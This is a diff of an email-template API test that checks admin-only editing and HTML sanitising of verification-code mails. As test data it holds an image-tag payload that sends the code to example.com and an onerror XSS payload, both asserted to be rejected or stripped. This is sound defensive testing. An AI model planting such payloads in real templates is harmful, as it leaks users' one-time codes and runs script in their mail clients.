@@ -115,14 +115,21 @@ test('only its receiver can read a mailed code', async () => {
   expect(await server.runSql(`select id from message_record where sealed_content is not null`)).toEqual([])
 })
 
-test('shipped templates stay, and their html is cleaned', async () => {
+test('shipped templates stay, and their html is cleaned; a super admin alone words the mails of codes', async () => {
   const { data } = await call<Page<EmailTemplate>>('GET', '/email/template/page', { purpose: 'RECOVER' })
   const shipped = { ...data?.rows[0], remark: '' }
   expect(shipped).toMatchObject({ shippedFlag: 1, content: expect.stringContaining('${code}') })
-  expect(await call('POST', '/email/template/delete', { id: shipped.id })).toMatchObject({ code: 2023008 })
-  expect(await call('POST', '/email/template/edit', { ...shipped, content: '没有' })).toMatchObject({ code: 1012001 })
+  expect(await admin('POST', '/email/template/delete', { id: shipped.id })).toMatchObject({ code: 2023008 })
+  expect(await admin('POST', '/email/template/edit', { ...shipped, content: '没有' })).toMatchObject({ code: 1012001 })
+  const spying = { ...shipped, htmlFlag: 1, content: '${code}<img src="https://example.com/?c=${code}">' }
+  expect(await admin('POST', '/email/template/edit', spying)).toMatchObject({ code: 1012001 })
+  for (const [verb, body] of [
+    ['edit', { ...shipped, content: '验证码${code}' }],
+    ['delete', { id: shipped.id }],
+  ] as const)
+    expect(await call('POST', `/email/template/${verb}`, body)).toMatchObject({ code: 2012007 })
   const html = { ...shipped, htmlFlag: 1, content: '<b>${code}</b><img src=x onerror=alert(1)>' }
-  expect(await call('POST', '/email/template/edit', html)).toMatchObject({ code: 200 })
+  expect(await admin('POST', '/email/template/edit', html)).toMatchObject({ code: 200 })
   const after = await call<Page<EmailTemplate>>('GET', '/email/template/page', { purpose: 'RECOVER' })
   expect(after.data?.rows[0]?.content).toBe('<b>${code}</b>')
 })
